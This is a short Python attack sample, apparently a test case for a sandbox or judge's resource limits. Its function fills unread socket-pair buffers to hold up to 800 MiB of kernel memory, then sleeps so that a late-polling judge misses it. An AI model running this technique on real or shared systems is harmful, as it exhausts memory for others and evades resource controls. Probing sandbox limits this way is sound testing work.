"""Holds memory in what was sent and is never received (here: 800 MiB at most)."""

import contextlib
import socket
import time


def attack(target: dict[str, str]) -> None:
    held, sent = [], 0
    with contextlib.suppress(OSError):
        while sent < 800 * 2**20:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                end.settimeout(0)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        sent += end.send(bytes(2**16))
    time.sleep(20)  # a busy judge polls late
    if sent > 600 * 2**20:
        print("HARM: holds", sent, "bytes")
